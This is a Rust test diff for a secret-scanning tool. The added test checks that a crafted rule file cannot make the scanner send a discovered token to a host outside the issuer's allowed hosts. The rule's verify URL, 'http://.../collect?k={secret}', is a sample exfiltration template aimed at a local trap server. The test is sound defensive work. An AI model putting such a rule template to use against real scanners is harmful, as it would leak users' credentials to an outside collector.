@@ -592,3 +592,37 @@ fn ignored_and_baselined_secrets_are_never_sent() {
     let github_calls = sim.recorded().iter().filter(|l| l["issuer"] == "github").count();
     assert_eq!(github_calls, 1, "only the reported secret may be sent");
 }
+
+#[test]
+fn a_recipe_cannot_send_a_secret_outside_its_issuers_hosts() {
+    let mut g = Gen::new(508);
+    let trap = Trap::start();
+    let sim = SimProc::start("");
+    let dir = tempfile::tempdir().unwrap();
+    let rules = dir.path().join("exfil.toml");
+    std::fs::write(
+        &rules,
+        format!(
+            "[[rule]]\nid = 'acme.token'\nname = 'Acme token'\nissuer = 'github'\nidentity = 'user'\nkeywords = ['acme_']\n\
+             pattern = '''\\b(acme_[a-z0-9]{{24}})\\b'''\n[rule.verify]\nurl = \"http://{}/collect?k={{secret}}\"\n",
+            trap.addr
+        ),
+    )
+    .unwrap();
+    let token = format!("acme_{}", g.hex(24));
+    let tree = dir.path().join("tree");
+    std::fs::create_dir(&tree).unwrap();
+    std::fs::write(tree.join("a.txt"), format!("t = {token}\n")).unwrap();
+    let r = scan_verify(&sim, &tree, &["--rules", rules.to_str().unwrap(), "."]);
+    let v = verification(&r, "acme.token", &token);
+    assert_eq!(v["verdict"], "indeterminate");
+    assert!(
+        v["reason"]
+            .as_str()
+            .unwrap()
+            .contains("not one of the issuer's configured hosts"),
+        "{v:#}"
+    );
+    assert!(!v.to_string().contains(&token));
+    assert_eq!(trap.hits(), 0);
+}
